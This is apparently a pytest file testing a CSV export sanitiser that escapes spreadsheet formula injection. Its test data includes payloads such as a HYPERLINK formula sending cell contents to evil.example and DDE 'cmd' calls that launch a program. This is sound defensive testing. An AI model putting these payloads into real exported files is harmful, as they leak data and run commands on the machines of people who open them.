"""What somebody else wrote is words in a spreadsheet, whatever they wrote."""

import csv
import io

import pytest

from pocketpay.serving.spreadsheet import row, safe_text

FORMULAS = [
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "' =1"),
    ("\r=1", "' =1"),
    ("\n=1", "' =1"),
    ("\x00=1", "' =1"),
    (" =1", "' =1"),
    ("\u00a0=1", "'\u00a0=1"),
    ('"=1"', '\'"=1"'),
    ("'=1", "''=1"),
    ("＝1+1", "'＝1+1"),
    ("＋1", "'＋1"),
    ("－1", "'－1"),
    ("＠SUM(A1)", "'＠SUM(A1)"),
    ('=HYPERLINK("https://evil.example/?x="&A1,"Error")', '\'=HYPERLINK("https://evil.example/?x="&A1,"Error")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("x;=1", "x;'=1"),
    ("x; =1;-2", "x;' =1;'-2"),
    ('x";=1;"', 'x";\'=1;"'),
    ("x\t@SUM(A1)", "x @SUM(A1)"),
    ("x\r\n=1", "x  =1"),
    ("x\u2028=1", "x =1"),
]


@pytest.mark.parametrize(("text", "shown"), FORMULAS)
def test_what_might_be_a_formula_is_words(text: str, shown: str) -> None:
    assert safe_text(text) == shown


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("text", [text for text, _ in FORMULAS])
def test_no_cell_begins_like_a_formula_wherever_a_spreadsheet_splits(text: str, separator: str) -> None:
    line = row(["2026-11-22 12:00:00", safe_text(text), "12.50"])
    cells = next(csv.reader(io.StringIO(line, newline=""), delimiter=separator))
    cells += line.splitlines()[0].split(separator)
    assert not [cell for cell in cells if cell.strip('\u00a0 "')[:1] in set("=+-@＝＋－＠")]


@pytest.mark.parametrize(
    "text", ["Lunch", "Rent, May - thanks", "a=b", "50% off; see you", "Zoë's “café”", "", "1 + 1", "e-mail"]
)
def test_ordinary_words_are_left_alone(text: str) -> None:
    assert safe_text(text) == text


@pytest.mark.parametrize("cells", [["a", "b"], ["", ""], ['say "hi"', "a,b"], ["line\r\nbreak", "ü"], ["'", '"""']])
def test_row_is_read_back_as_it_was(cells: list[str]) -> None:
    line = row(cells)
    assert list(csv.reader(io.StringIO(line, newline=""))) == [cells]
    assert line.endswith("\r\n")
